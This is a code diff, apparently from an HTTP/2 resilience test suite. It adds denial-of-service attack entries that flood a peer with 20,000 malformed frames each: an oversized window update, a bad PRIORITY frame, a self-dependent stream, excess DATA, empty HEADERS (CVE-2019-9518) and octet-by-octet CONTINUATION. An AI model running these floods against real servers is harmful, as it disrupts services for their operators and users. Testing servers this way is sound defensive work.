@@ -69,6 +69,67 @@ export const attacks: readonly Attack[] = [
     settings: [pair(setting.initialWindowSize, 0)],
   },
   {
+    name: 'the router made to reset, by a window beyond all bounds',
+    run: (peer, host) =>
+      flood(peer, 20_000, n =>
+        Buffer.concat([
+          frame(frameType.headers, endHeaders, odd(n), request(host, 'POST')),
+          frame(frameType.windowUpdate, 0, odd(n), uint32(0x7fffffff)),
+        ]),
+      ),
+  },
+  {
+    name: 'the router made to reset, by PRIORITY of a wrong length',
+    run: (peer, host) =>
+      flood(peer, 20_000, n =>
+        Buffer.concat([
+          frame(frameType.headers, endHeaders, odd(n), request(host, 'POST')),
+          frame(frameType.priority, 0, odd(n), 'x'),
+        ]),
+      ),
+  },
+  {
+    name: 'the router made to reset, by a stream that depends on itself',
+    run: (peer, host) =>
+      flood(peer, 20_000, n =>
+        Buffer.concat([
+          frame(frameType.headers, endHeaders, odd(n), request(host, 'POST')),
+          frame(frameType.priority, 0, odd(n), Buffer.concat([uint32(odd(n)), Buffer.of(1)])),
+        ]),
+      ),
+  },
+  {
+    name: 'the router made to reset, by HEADERS behind the end',
+    run: (peer, host) =>
+      flood(peer, 20_000, n =>
+        Buffer.concat([
+          frame(frameType.headers, whole, odd(n), request(host, 'GET', '/large')),
+          frame(frameType.headers, whole, odd(n), request(host)),
+        ]),
+      ),
+    answers: 1_000_000,
+    settings: [pair(setting.initialWindowSize, 0)],
+  },
+  {
+    name: 'the router made to reset, by more DATA than was announced',
+    run: (peer, host) =>
+      flood(peer, 20_000, n =>
+        Buffer.concat([
+          frame(
+            frameType.headers,
+            endHeaders,
+            odd(n),
+            Buffer.concat([request(host, 'POST'), block([['content-length', '1']])]),
+          ),
+          frame(frameType.data, 0, odd(n), 'xx'),
+        ]),
+      ),
+  },
+  {
+    name: 'HEADERS without a field (CVE-2019-9518)',
+    run: peer => flood(peer, 20_000, n => frame(frameType.headers, whole, odd(n))),
+  },
+  {
     name: 'the router made to reset, by malformed requests',
     run: (peer, host) =>
       flood(peer, 20_000, n => frame(frameType.headers, whole, odd(n), block([['no-pseudo', host]]))),
@@ -93,6 +154,17 @@ export const attacks: readonly Attack[] = [
       flood(peer, 20_000, n =>
         n === 0 ? frame(frameType.headers, 0, 1, request(host)) : frame(frameType.continuation, 0, 1),
       ),
+  },
+  {
+    name: 'CONTINUATION octet by octet',
+    run: (peer, host) => {
+      const fields = Buffer.concat([request(host), ...Array.from({ length: 4000 }, () => block([['a', 'b']]))])
+      return flood(peer, fields.length, n =>
+        n === 0
+          ? frame(frameType.headers, 0, 1, fields.subarray(0, 1))
+          : frame(frameType.continuation, 0, 1, fields.subarray(n, n + 1)),
+      )
+    },
   },
   {
     name: 'SETTINGS flood (CVE-2019-9515)',
